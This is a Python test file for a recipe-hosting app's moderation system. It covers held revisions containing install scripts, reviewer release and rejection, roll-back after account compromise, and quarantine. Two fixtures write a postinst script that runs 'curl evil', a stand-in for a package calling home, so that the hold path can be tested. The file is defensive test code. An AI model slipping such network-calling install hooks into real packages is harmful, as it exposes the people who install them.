"""Held revisions, roll-back and quarantine of revisions, all through the real store: what is current, and what git hands out."""

from datetime import timedelta

import pytest
from django.utils import timezone

from recipes_app.models import Event, Hold, Notification, QueueEntry, Rank, Revision
from recipes_app.repos.store import store
from recipes_app.services.core.errors import Refused
from recipes_app.services.core.permissions import PermissionDenied
from recipes_app.services.gates import gate_table
from recipes_app.services.moderation import quarantine, revisions, sanctions
from recipes_app.services.publishing import publish
from tests.factories import make_user, publish_recipe, recipe_tree

pytestmark = pytest.mark.django_db
REVIEW = Revision.Review
SCRIPT = {"debian/postinst": "#!/bin/sh\nexit 0\n"}


@pytest.fixture(autouse=True)
def settings_of_tests(settings, tmp_path):
    settings.REPOSITORY_ROOT = tmp_path / "repos"
    settings.REVIEW_GATES = gate_table.at_home()
    settings.STAFF_NEEDS_SECOND_FACTOR = False


@pytest.fixture
def ada():
    return make_user("ada")


@pytest.fixture
def reviewer():
    return make_user("trusty", rank=Rank.TRUSTED)


@pytest.fixture
def moderator():
    return make_user("mod", rank=Rank.MODERATOR)


def push(user, version, **files):
    """Push and publish one version; return its revision."""
    return publish_recipe(recipe_tree(version=version, **files), user).revisions.get(version=version)


def current(recipe):
    recipe.refresh_from_db()
    return recipe.current.version if recipe.current else None


def tip(recipe):
    """Return the version that `git clone` gives."""
    return recipe.revisions.get(commit=store().shown(recipe.storage_name)["main"]).version


def waits():
    return QueueEntry.objects.filter(kind=QueueEntry.Kind.HOLD, closed_at=None).count()


def kinds():
    return list(Event.objects.order_by("id").values_list("kind", flat=True))


class TestHeld:
    def test_held_revision_is_visible_and_not_current(self, ada):
        first = push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        assert (held.review, held.hold.gates) == (REVIEW.HELD, ["root"])
        assert held.hold.reasons[0].startswith("debian/postinst")
        assert (current(first.recipe), waits()) == ("1.0-1", 1)
        assert "revision.held" in kinds()

    def test_followers_hear_nothing_of_it(self, ada):
        push(ada, "1.0-1")
        Notification.objects.all().delete()
        push(ada, "1.1-1", **SCRIPT)
        assert not Notification.objects.filter(kind=Notification.Kind.UPDATE).exists()

    def test_plain_bump_after_a_held_revision_is_compared_with_what_is_current(self, ada):
        push(ada, "1.0-1")
        push(ada, "1.1-1", **SCRIPT)
        again = push(ada, "1.2-1", **SCRIPT)
        assert again.hold.gates == ["root"]
        assert "debian/postinst" in again.hold.reasons[0]

    def test_observed_reason_is_recorded_and_holds_nothing(self, ada, settings):
        revision = push(ada, "1.0-1")
        assert revision.review == REVIEW.PUBLISHED
        assert "hold: the account ada is younger than 7 days" in revision.hold.observed
        assert waits() == 0

    def test_first_revision_held_leaves_a_recipe_without_a_current_one(self, ada, settings):
        settings.REVIEW_GATES = {}
        revision = push(ada, "1.0-1")
        assert (revision.review, current(revision.recipe)) == (REVIEW.HELD, None)


class TestReview:
    def test_released_revision_becomes_current_and_its_pusher_is_told(self, ada, reviewer):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        publish.review(reviewer, held, release=True, decision="does nothing")
        assert (current(held.recipe), tip(held.recipe), waits()) == ("1.1-1", "1.1-1", 0)
        assert Notification.objects.filter(user=ada, kind=Notification.Kind.MODERATION, text__contains="does nothing").exists()
        assert "revision.released" in kinds()

    def test_first_revision_is_released(self, ada, reviewer, settings):
        settings.REVIEW_GATES = {}
        held = push(ada, "1.0-1")
        publish.review(reviewer, held, release=True, decision="fine")
        assert current(held.recipe) == "1.0-1"

    def test_rejected_revision_leaves_git_too(self, ada, reviewer):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        publish.review(reviewer, held, release=False, decision="calls home")
        held.refresh_from_db()
        assert held.review == REVIEW.QUARANTINED
        assert (current(held.recipe), tip(held.recipe)) == ("1.0-1", "1.0-1")

    def test_older_held_revision_released_after_a_younger_one_was_rejected_is_current(self, ada, reviewer):
        push(ada, "1.0-1")
        older = push(ada, "1.1-1", **SCRIPT)
        younger = push(ada, "1.2-1", **{"debian/postinst": "#!/bin/sh\ncurl evil\n"})
        publish.review(reviewer, younger, release=False, decision="calls home")
        publish.review(reviewer, older, release=True, decision="fine")
        assert (current(older.recipe), tip(older.recipe)) == ("1.1-1", "1.1-1")

    def test_older_held_revision_released_while_a_younger_one_waits_is_what_people_get(self, ada, reviewer):
        push(ada, "1.0-1")
        older = push(ada, "1.1-1", **SCRIPT)
        younger = push(ada, "1.2-1", **{"debian/postinst": "#!/bin/sh\ncurl evil\n"})
        publish.review(reviewer, older, release=True, decision="fine")
        assert (current(older.recipe), tip(older.recipe)) == ("1.1-1", "1.1-1")
        # Its team goes on from the younger one.
        assert store().branches(older.recipe.storage_name)["main"] == younger.commit

    def test_push_after_a_rejection_goes_on_from_what_is_current(self, ada, reviewer):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        publish.review(reviewer, held, release=False, decision="calls home")
        assert current(push(ada, "1.2-1").recipe) == "1.2-1"

    def test_nobody_reviews_what_he_pushed_himself(self, settings, reviewer):
        settings.REVIEW_GATES = {}
        push(reviewer, "1.0-1")
        held = push(reviewer, "1.1-1", **SCRIPT)
        with pytest.raises(Refused, match="another reviewer must look at it"):
            publish.review(reviewer, held, release=True, decision="mine")

    def test_ordinary_account_reviews_nothing(self, ada):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        with pytest.raises(PermissionDenied):
            publish.review(make_user("grace"), held, release=True, decision="fine")

    def test_revision_is_reviewed_once(self, ada, reviewer):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        publish.review(reviewer, held, release=True, decision="fine")
        with pytest.raises(Refused, match="does not wait for a review"):
            publish.review(reviewer, held, release=False, decision="no")

    def test_words_are_asked_for(self, ada, reviewer):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        with pytest.raises(Refused) as refused:
            publish.review(reviewer, held, release=True, decision=" ")
        assert refused.value.field == "decision"


class TestRollBack:
    def test_everything_since_a_time_leaves_catalogue_and_git(self, ada, moderator):
        first = push(ada, "1.0-1")
        Revision.objects.update(pushed_at=timezone.now() - timedelta(days=2))
        publish_recipe(recipe_tree(version="1.1-1"), ada)
        publish_recipe(recipe_tree(version="1.2-1"), ada)
        result = sanctions.roll_back(moderator, ada, timezone.now() - timedelta(days=1), "stolen password")
        assert (result.revisions, result.recipes, result.quarantined) == (2, ["hello-dur"], [])
        assert (current(first.recipe), tip(first.recipe)) == ("1.0-1", "1.0-1")
        assert first.recipe.revisions.filter(review=REVIEW.QUARANTINED).count() == 2

    def test_recipe_with_nothing_left_is_quarantined(self, ada, moderator):
        recipe = push(ada, "1.0-1").recipe
        result = sanctions.roll_back(moderator, ada, timezone.now() - timedelta(days=1), "stolen password")
        recipe.refresh_from_db()
        assert result.quarantined == ["hello-dur"]
        assert (recipe.quarantine_reason, recipe.current) == ("stolen password", None)

    def test_held_revision_that_is_rolled_back_waits_for_nobody(self, ada, moderator):
        push(ada, "1.0-1")
        Revision.objects.update(pushed_at=timezone.now() - timedelta(days=2))
        publish_recipe(recipe_tree(version="1.1-1", **SCRIPT), ada)
        sanctions.roll_back(moderator, ada, timezone.now() - timedelta(days=1), "stolen password")
        assert waits() == 0
        assert Hold.objects.exclude(reasons=[]).get().released is False

    def test_what_others_pushed_stays(self, ada, moderator):
        recipe = push(ada, "1.0-1").recipe
        sanctions.roll_back(moderator, make_user("grace"), timezone.now() - timedelta(days=1), "stolen password")
        assert current(recipe) == "1.0-1"

    def test_running_it_again_does_nothing(self, ada, moderator):
        push(ada, "1.0-1")
        since = timezone.now() - timedelta(days=1)
        sanctions.roll_back(moderator, ada, since, "stolen password")
        lines = Event.objects.count()
        assert sanctions.roll_back(moderator, ada, since, "stolen password").revisions == 0
        assert Event.objects.count() == lines

    def test_maintainer_pushes_on_after_a_roll_back(self, ada, moderator):
        push(ada, "1.0-1")
        Revision.objects.update(pushed_at=timezone.now() - timedelta(days=2))
        publish_recipe(recipe_tree(version="1.1-1"), ada)
        sanctions.roll_back(moderator, ada, timezone.now() - timedelta(days=1), "stolen password")
        assert current(publish_recipe(recipe_tree(version="1.2-1"), ada)) == "1.2-1"


class TestFreeze:
    def test_freeze_takes_every_role_and_thaw_gives_them_back(self, ada, moderator):
        sanctions.freeze(moderator, ada, "stolen password")
        ada.refresh_from_db()
        assert (ada.frozen_at is not None, ada.frozen_reason) == (True, "stolen password")
        with pytest.raises(Refused, match="frozen already"):
            sanctions.freeze(moderator, ada, "again")
        sanctions.thaw(moderator, ada, "has a new one")
        ada.refresh_from_db()
        assert ada.frozen_at is None
        assert kinds() == ["account.frozen", "account.thawed"]

    def test_freeze_ends_the_sessions(self, client, ada, moderator):
        client.post("/accounts/login/", {"login": "ada", "password": "correct horse"})
        assert client.get("/account/").status_code == 200
        sanctions.freeze(moderator, ada, "stolen password")
        assert client.get("/account/").status_code == 302

    def test_nobody_freezes_himself_or_an_administrator(self, moderator):
        for account in (moderator, make_user("root", rank=Rank.ADMINISTRATOR)):
            with pytest.raises(Refused):
                sanctions.freeze(moderator, account, "why not")


class TestRevisions:
    def test_revision_taken_out_leaves_catalogue_and_git_and_comes_back(self, ada, moderator):
        push(ada, "1.0-1")
        bad = push(ada, "1.1-1")
        revisions.take_out(moderator, bad, "backdoor")
        assert (current(bad.recipe), tip(bad.recipe)) == ("1.0-1", "1.0-1")
        revisions.bring_back(moderator, bad, "it was none")
        assert (current(bad.recipe), tip(bad.recipe)) == ("1.1-1", "1.1-1")
        assert kinds()[-2:] == ["revision.quarantined", "revision.released"]

    def test_only_revision_taken_out_quarantines_the_recipe(self, ada, moderator):
        only = push(ada, "1.0-1")
        revisions.take_out(moderator, only, "backdoor")
        only.recipe.refresh_from_db()
        assert only.recipe.quarantined_at is not None
        assert only.recipe.current is None

    def test_older_revision_brought_back_does_not_pass_a_newer_one(self, ada, moderator):
        push(ada, "1.0-1")
        bad = push(ada, "1.1-1")
        revisions.take_out(moderator, bad, "backdoor")
        push(ada, "1.2-1")
        revisions.bring_back(moderator, bad, "it was none")
        assert (current(bad.recipe), tip(bad.recipe)) == ("1.2-1", "1.2-1")

    def test_held_revision_is_decided_in_the_queue_and_not_here(self, ada, moderator):
        push(ada, "1.0-1")
        held = push(ada, "1.1-1", **SCRIPT)
        with pytest.raises(Refused, match="reject it in the queue"):
            revisions.take_out(moderator, held, "backdoor")

    def test_reviewer_takes_nothing_out(self, ada, reviewer):
        with pytest.raises(PermissionDenied):
            revisions.take_out(reviewer, push(ada, "1.0-1"), "backdoor")

    def test_reason_is_asked_for(self, ada, moderator):
        with pytest.raises(Refused) as refused:
            revisions.take_out(moderator, push(ada, "1.0-1"), "")
        assert refused.value.field == "reason"


class TestQuarantine:
    def test_quarantine_and_release_are_in_the_log_and_told_to_the_maintainer(self, ada, moderator):
        recipe = push(ada, "1.0-1").recipe
        quarantine.quarantine(moderator, recipe, "mines coins")
        recipe.refresh_from_db()
        assert recipe.quarantine_reason == "mines coins"
        quarantine.release(moderator, recipe, "it does not")
        recipe.refresh_from_db()
        assert (recipe.quarantined_at, recipe.quarantine_reason) == (None, "")
        assert kinds()[-2:] == ["recipe.quarantined", "recipe.released"]
        assert Notification.objects.filter(user=ada, kind=Notification.Kind.MODERATION).count() == 2

    def test_what_is_quarantined_is_not_quarantined_again(self, ada, moderator):
        recipe = push(ada, "1.0-1").recipe
        quarantine.quarantine(moderator, recipe, "mines coins")
        with pytest.raises(Refused, match="already"):
            quarantine.quarantine(moderator, recipe, "mines coins")

    def test_current_revision_stays_current(self, ada, moderator):
        recipe = push(ada, "1.0-1").recipe
        quarantine.quarantine(moderator, recipe, "mines coins")
        assert current(recipe) == "1.0-1"
